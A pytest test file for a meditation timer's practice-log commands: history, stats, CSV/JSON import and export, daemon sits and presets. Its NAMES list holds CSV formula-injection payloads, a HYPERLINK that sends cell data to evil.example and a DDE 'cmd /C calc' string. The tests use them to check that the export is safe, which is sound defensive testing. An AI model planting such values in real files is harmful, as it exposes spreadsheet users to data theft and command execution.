"""The practice log end to end, against the real binary and real daemons (was
practice-tests.py): a foreground sit, a daemon sit stopped after some seconds and a
guided meditation each appear once in `history --json` with their heard length and end
reason; renders and previews appear nowhere; a sit whose daemon was killed is closed at
the next start with what was heard; the CSV export round-trips through `history import`;
names from file tags cannot become spreadsheet formulas in the CSV, and still round-trip
exactly; imports refuse what is not ours whole, naming the line or record; `history
--since` past the last entry says so, not that the log is empty; a log of 100,000 entries
answers `history --limit 5` and `stats` in well under a second without growing the
process."""
import csv
import io
import json
import os
import random
import signal
import subprocess
import sys
import time
import wave

import pytest

import smtest
from smtest import BAD_INPUT


def entry_json(i, name="sit", teacher=None, scheduled=False, start="2026-11-24T07:00:00+01:00"):
    return {"id": f"00000000-0000-4000-8000-{i:012d}", "kind": "guided" if teacher else "timer", "name": name,
            "teacher": teacher, "preset": None, "meditationId": None, "start": start, "plannedSeconds": 600,
            "heardSeconds": 600, "endReason": "completed", "scheduled": scheduled}


def write(path, text):
    with open(path, "w", encoding="utf-8") as f:
        f.write(text)
    return path


# ------------------------------------------------------------------ a large log

# Runs a command from a fresh, small Python (so the peak RSS the kernel reports for it is
# not this test's own, which a child inherits until exec): prints "status maxrss-KB".
MEASURE = """import os, sys
pid = os.fork()
if pid == 0:
    fd = os.open(sys.argv[1], os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    os.dup2(fd, 1)
    os.execv(sys.argv[2], sys.argv[2:])
_, status, usage = os.wait4(pid, 0)
print(os.waitstatus_to_exitcode(status), usage.ru_maxrss)
"""


def peak_rss(h, *args):
    """Wall seconds, peak RSS (KB), exit status and standard output of one run."""
    out_path = h.dir + "/measured.out"
    t0 = time.perf_counter()
    p = subprocess.run([sys.executable, "-c", MEASURE, out_path, smtest.BIN, *args], env=h.env, capture_output=True,
                       timeout=300)
    wall = time.perf_counter() - t0
    rc, rss = (int(x) for x in p.stdout.split())
    with open(out_path, encoding="utf-8") as f:
        return wall, rss, rc, f.read()


N = 100_000


@pytest.fixture(scope="module")
def large_log(binary, tmp_path_factory):
    """A log of N entries written straight into the app's table, and the peak RSS of
    `stats` on an empty log to measure against."""
    h, empty = (smtest.Home(tmp_path_factory.mktemp("sm")) for _ in range(2))
    try:
        h.run("history")                       # the store, migrated
        r = random.Random(5)
        now = int(time.time())
        rows = [(f"{r.getrandbits(32):08x}-0000-4000-8000-{i:012d}", "timer", "sit", None, r.choice(["T", None]),
                 r.choice(["morning", None]), now - (N - i) * 600, 3600, 600_000, 60_000 * (1 + i % 30), None, "completed", 0)
                for i in range(N)]
        with smtest.catalog_sql(h.dir + "/home/library.sqlite") as db:
            db.executemany("INSERT INTO practice VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?)", rows)
        h.last, h.total, h.morning = rows[-1][0], sum(row[9] for row in rows), sum(1 for row in rows if row[5])
        del rows
        empty.run("history")
        h.base = min(peak_rss(empty, "stats")[1] for _ in range(2))
        yield h
    finally:
        h.close()
        empty.close()


def test_history_limit_5_of_a_large_log_is_quick_and_small(large_log):
    h = large_log
    wall, rss, rc, out = min(peak_rss(h, "history", "--limit", "5") for _ in range(2))
    lines = out.strip().splitlines()
    assert rc == 0 and len(lines) == 5 and lines[-1].startswith(h.last[:8]), out
    assert wall < 1.0 and rss - h.base < 10_000, f"{wall * 1000:.0f} ms, RSS {(rss - h.base) / 1024:+.1f} MB over an empty log"


def test_stats_of_a_large_log_counts_every_sit_quick_and_small(large_log):
    h = large_log
    wall, rss, rc, out = min(peak_rss(h, "stats", "--json") for _ in range(2))
    s = json.loads(out) if rc == 0 else {}
    assert s.get("all") == {"sits": N, "milliseconds": h.total} and s.get("longestMilliseconds") == 30 * 60_000, s
    assert s.get("byPreset", {}).get("morning", {}).get("sits") == h.morning, s.get("byPreset")
    assert wall < 1.0 and rss - h.base < 10_000, f"{wall * 1000:.0f} ms, RSS {(rss - h.base) / 1024:+.1f} MB over an empty log"


def test_history_json_of_a_large_log_is_streamed(large_log):
    h = large_log
    wall, rss, rc, out = peak_rss(h, "history", "--json")
    assert rc == 0 and len(json.loads(out)) == N
    assert rss - h.base < 20_000, f"RSS {(rss - h.base) / 1024:+.1f} MB, {wall:.1f} s"


# ------------------------------------------------------------------ formulas in the CSV

NAMES = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-2+3",
         "\tTab", "\rCR", "'=already quoted", "''@two quotes", "'plain quote", "plain", "a=b", "=", "'"]


@pytest.fixture(scope="module")
def formulas(binary, tmp_path_factory):
    """Entries named like formulas, imported; their CSV export."""
    h = smtest.Home(tmp_path_factory.mktemp("sm"))
    try:
        h.entries = [entry_json(i + 1, name=n, teacher=n if i % 2 else "T", start=f"2026-11-{i + 1:02d}T07:00:00+01:00")
                     for i, n in enumerate(NAMES)]
        h.imported = h.run("history", "import", write(h.dir + "/in.json", json.dumps(h.entries)))
        h.csv = h.run("history", "--csv")
        yield h
    finally:
        h.close()


def test_history_csv_starts_no_cell_with_a_formula_character(formulas):
    h = formulas
    assert h.imported.rc == 0 and h.csv.rc == 0, (h.imported, h.csv)
    rows = list(csv.reader(io.StringIO(h.csv.out, newline="")))
    live = [cell for row in rows[1:] for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    first = {row[0]: row for row in rows[1:]}.get(h.entries[0]["id"], [""] * 4)
    assert len(rows) == len(NAMES) + 1 and not live, live[:3]
    assert first[2] == "'" + NAMES[0], "a formula is prefixed with '"


def test_csv_export_then_import_keeps_every_name_and_teacher_exactly(formulas, home):
    h = formulas
    r = home.run("history", "import", write(home.dir + "/log.csv", h.csv.out))
    back = {e["id"]: e for e in (home.history() or [])}
    same = [(e["name"], e["teacher"]) == (back.get(e["id"], {}).get("name"), back.get(e["id"], {}).get("teacher"))
            for e in h.entries]
    assert r.rc == 0 and all(same), (r, same)
    assert home.run("history", "--csv").out == h.csv.out


# ------------------------------------------------------------------ strict imports

def bad_imports():
    """(label, where it is named, how to make the file from the good log's CSV lines)."""
    cases = []
    for value in ["maybe", "2", "TRUE", "yes"]:
        def csv_scheduled(lines, value=value):
            bad = lines[:]
            bad[2] = bad[2].rsplit(",", 1)[0] + "," + value
            bad = bad[:2] + [",".join(["00000000-0000-4000-8000-000000000003"] + bad[1].split(",")[1:])] + bad[2:]
            return "\r\n".join(bad)
        cases.append((f"CSV scheduled '{value}'", "line 4", csv_scheduled))
    for value in ["maybe", 2, 1, "true", None]:
        def json_scheduled(lines, value=value):
            recs = [entry_json(5), entry_json(6)]
            recs[1]["scheduled"] = value
            return json.dumps(recs)
        cases.append((f"JSON scheduled {value!r}", "record 2", json_scheduled))

    def csv_zero(lines):
        zero = lines[:]
        zero[1] = zero[1].replace("2026-11-24T", "0000-11-24T")
        return "\r\n".join(zero)
    cases.append(("CSV start in the year 0000", "line 2", csv_zero))
    cases.append(("JSON start in the year 0000", "record 3",
                  lambda lines: json.dumps([entry_json(7), entry_json(8), entry_json(9, start="0000-01-01T00:00:00Z")])))
    return cases


@pytest.fixture(scope="module")
def good_log(binary, tmp_path_factory):
    h = smtest.Home(tmp_path_factory.mktemp("sm"))
    try:
        good = [entry_json(1), entry_json(2, start="2026-11-25T07:00:00+01:00")]
        h.run("history", "import", write(h.dir + "/good.json", json.dumps(good)))
        h.lines = h.run("history", "--csv").out.split("\r\n")
        h.before = h.history()
        yield h
    finally:
        h.close()


@pytest.mark.parametrize("label,where,make", bad_imports(), ids=[c[0] for c in bad_imports()])
def test_import_refuses_a_bad_record_whole_in_one_line_naming_it(good_log, label, where, make):
    h = good_log
    r = h.run("history", "import", write(h.dir + "/bad.txt", make(h.lines)))
    assert r.rc != 0 and len(r.err_lines) == 1 and where in r.err, r
    assert h.history() == h.before, "nothing stored"


def test_import_refuses_a_bad_record_in_german_too(good_log):
    h = good_log
    path = write(h.dir + "/bad-de.txt", bad_imports()[-1][2](h.lines))     # JSON start in the year 0000, record 3
    r = h.run("history", "import", path, lang="de_DE.UTF-8")
    assert r.rc != 0 and ("Datensatz 3" in r.err or "Zeile" in r.err) and "0000" in r.err, r


# Wording: a range with nothing in it is not an empty log.
def test_history_since_after_the_last_entry_is_not_called_empty(good_log):
    r = good_log.run("history", "--since", "9999-12-31")
    assert r.rc == 0 and "yet" not in r.out and "9999-12-31" in r.out, r


def test_history_until_before_the_first_entry_is_not_called_empty(good_log):
    r = good_log.run("history", "--until", "1999-01-01")
    assert r.rc == 0 and "yet" not in r.out and "1999-01-01" in r.out, r


def test_history_range_without_entries_in_german(good_log):
    r = good_log.run("history", "--since", "2027-01-01", "--until", "2027-02-01", lang="de_DE.UTF-8")
    assert r.rc == 0 and "noch nichts" not in r.out and "2027" in r.out, r


def test_an_empty_log_is_still_called_empty(home):
    r = home.run("history", "--since", "9999-12-31")
    assert r.rc == 0 and r.out.strip() == "nothing in the practice log yet", r


# ------------------------------------------------------------------ sits, end to end
# One home, in order: each step adds to the log the next ones count.

@pytest.fixture(scope="module")
def sits(binary, tmp_path_factory):
    h = smtest.Home(tmp_path_factory.mktemp("sm"))
    try:
        h.tone = smtest.tone(h.dir + "/tone.mp3", seconds=20, freq=300, title="Evening", artist="Tara")
        yield h
    finally:
        h.close()


def test_a_foreground_sit_is_logged_once_as_completed_preparation_not_counted(sits):
    r = sits.run("timer", "30s", "--preparation", "2s", "--device", "null", "--foreground")
    h = sits.history()
    assert r.rc == 0 and h is not None and len(h) == 1, (r, h)
    e = h[0]
    assert (e["kind"], e["endReason"], e["heardSeconds"], e["plannedSeconds"]) == ("timer", "completed", 30, 30), e


def test_renders_and_a_preview_are_not_logged(sits):
    results = [sits.run("timer", "20s", "--output", sits.dir + "/r.wav"), sits.run("import", sits.tone),
               sits.run("play", "Evening", "--output", sits.dir + "/g.wav"), sits.run("preview", "Evening", "--device", "null")]
    assert [r.rc for r in results] == [0, 0, 0, 0], results
    assert len(sits.history() or []) == 1


def test_a_guided_meditation_is_logged_once_with_its_teacher_and_length(sits):
    r = sits.run("play", "Evening", "--device", "null", "--foreground")
    g = [e for e in sits.history() or [] if e["kind"] == "guided"]
    assert r.rc == 0 and len(g) == 1, (r, g)
    assert (g[0]["teacher"], g[0]["name"], g[0]["endReason"]) == ("Tara", "Evening", "completed")
    assert abs(g[0]["heardSeconds"] - 20) < 0.1, g


def test_a_daemon_sit_stopped_after_some_seconds_is_logged_once_as_stopped(sits):
    r = sits.run("timer", "24h", "--device", "null", "--detach")
    time.sleep(1.5)
    r2 = sits.run("stop")
    time.sleep(1.5)
    d = [e for e in sits.history() or [] if e["plannedSeconds"] == 86400]
    assert r.rc == 0 and r2.rc == 0 and len(d) == 1, (r, r2, d)
    assert d[0]["endReason"] == "stopped" and 0 < d[0]["heardSeconds"] < 86400, d


def test_a_sit_whose_daemon_was_killed_is_closed_at_the_next_start_as_failed(sits):
    sits.run("timer", "24h", "--device", "null", "--detach")
    pid = sits.daemon_pid()
    assert pid
    time.sleep(6.5)            # past one 5-s checkpoint
    os.kill(pid, signal.SIGKILL)
    smtest.wait_gone(pid)
    sits.run("status")      # no daemon: nothing started
    sits.run("timer", "10s", "--preparation", "off", "--device", "null", "--detach")
    time.sleep(2)
    k = [e for e in sits.history() or [] if e["plannedSeconds"] == 86400 and e["endReason"] == "failed"]
    assert len(k) == 1 and k[0]["heardSeconds"] > 0, k


def test_the_csv_export_imports_into_a_new_home_twice_without_duplicates(sits, home):
    exported = sits.run("history", "--csv").out
    path = write(home.dir + "/log.csv", exported)
    first, again = home.run("history", "import", path), home.run("history", "import", path)
    assert first.rc == 0 and again.rc == 0, (first, again)
    assert len(home.history()) == len(sits.history()), "the first import takes every entry, the second none"
    assert home.run("history", "--csv").out == exported


def test_a_finished_open_sit_is_logged_once_as_finished(sits):
    r = sits.run("timer", "open", "--preparation", "off", "--device", "null", "--detach")
    time.sleep(1.0)
    r2 = sits.run("finish")
    time.sleep(2.0)
    o = [e for e in sits.history() or [] if e["endReason"] == "finished"]
    assert r.rc == 0 and r2.rc == 0 and len(o) == 1, (r, r2, o)
    assert o[0]["plannedSeconds"] == 0 and o[0]["heardSeconds"] > 0 and o[0]["name"] == "open sit", o


def test_finish_with_nothing_playing_is_refused_in_one_line(sits):
    r = sits.run("finish")
    assert r.rc != 0 and len(r.err_lines) == 1, r


def test_preset_save_checks_now_and_show_says_where_each_value_comes_from(sits):
    r = sits.run("preset", "save", "morning", "25m", "--interval", "5m", "--ambience", "forest")
    broken = sits.run("preset", "save", "broken", "25m", "--gong", "no-such-gong")
    shown = sits.json("preset", "show", "morning", "--json") or {}
    assert r.rc == 0 and broken.rc == BAD_INPUT, (r, broken)
    assert shown.get("options", {}).get("duration", {}).get("source") == "preset", shown
    assert shown["options"].get("gong", {}).get("source") == "default", shown


def test_timer_preset_with_an_override_is_logged_under_the_preset(sits):
    r = sits.run("timer", "--preset", "morning", "--duration", "40s", "--preparation", "off", "--device", "null", "--foreground")
    p = [e for e in sits.history() or [] if e.get("preset") == "morning"]
    assert r.rc == 0 and len(p) == 1 and p[0]["plannedSeconds"] == 40 and p[0]["name"] == "morning", (r, p)


def test_preset_rename_list_delete_and_a_deleted_preset_is_refused(sits):
    r = sits.run("preset", "rename", "morning", "dawn")
    names = [x["name"] for x in sits.json("preset", "list", "--json") or []]
    deleted = sits.run("preset", "delete", "dawn")
    refused = sits.run("timer", "--preset", "dawn", "--device", "null", "--foreground")
    assert r.rc == 0 and names == ["dawn"] and deleted.rc == 0, (r, names, deleted)
    assert refused.rc == BAD_INPUT and len(refused.err_lines) == 1, refused


PLAN = ["timer", "--sections", "sit 1m, walk 30s, sit 1m", "--random-bells", "20s-30s", "--seed", "9", "--preparation", "3s"]


def test_plan_json_gives_the_renders_length_to_the_frame_and_every_gongs_reason(sits):
    plan = sits.json(*PLAN, "--plan", "--json") or {}
    r = sits.run(*PLAN, "--output", sits.dir + "/plan.wav")
    assert r.rc == 0, r
    try:
        with wave.open(sits.dir + "/plan.wav") as w:
            frames = w.getnframes()
    except wave.Error:     # 32-bit float: read the data chunk's size
        data = open(sits.dir + "/plan.wav", "rb").read()
        i = data.find(b"data")
        frames = int.from_bytes(data[i + 4:i + 8], "little") // 8
    reasons = [g["reason"] for g in plan.get("gongs", [])]
    assert round(plan.get("total", 0) * 44100) == frames, (plan.get("total"), frames)
    assert reasons.count("section") == 3 and "random" in reasons and plan.get("seed") == "9", reasons


def test_the_same_seed_gives_the_same_plan(sits):
    assert sits.run(*PLAN, "--plan", "--json").out == sits.run(*PLAN, "--plan", "--json").out


def test_stats_counts_every_logged_sit(sits):
    s = sits.json("stats", "--json") or {}
    assert s.get("all", {}).get("sits") == len(sits.history() or []), s.get("all")
